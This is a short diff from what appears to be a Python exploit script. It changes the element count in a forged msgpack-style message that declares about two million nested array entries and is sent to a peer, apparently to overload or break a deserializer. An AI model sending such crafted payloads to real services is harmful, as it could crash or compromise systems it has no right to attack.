@@ -52,7 +52,7 @@ def forge(**fields):
 
 
 def total(x):
-    count = 4 * 2**20 - 100
+    count = 2 * 2**20 - 100
     empty = b"\x92\xa1l\x90"
     body = b"\x82" + pack("type") + pack("returned") + pack("value") + b"\x92\xa1l\xdd"
     say(body + struct.pack(">I", count) + empty * count)
